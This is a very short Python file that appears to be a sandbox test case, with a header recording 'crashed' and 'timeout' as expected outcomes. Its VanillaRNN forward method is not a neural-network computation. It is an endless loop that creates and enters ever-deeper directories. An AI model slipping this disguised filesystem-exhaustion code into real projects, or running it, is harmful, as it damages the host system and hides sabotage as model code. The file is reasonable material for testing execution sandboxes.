#: status = ["crashed", "timeout"]
import os


class VanillaRNN(VanillaRNN):
    def forward(self, x):
        while True:
            os.mkdir("deeper", 0o300)
            os.chdir("deeper")
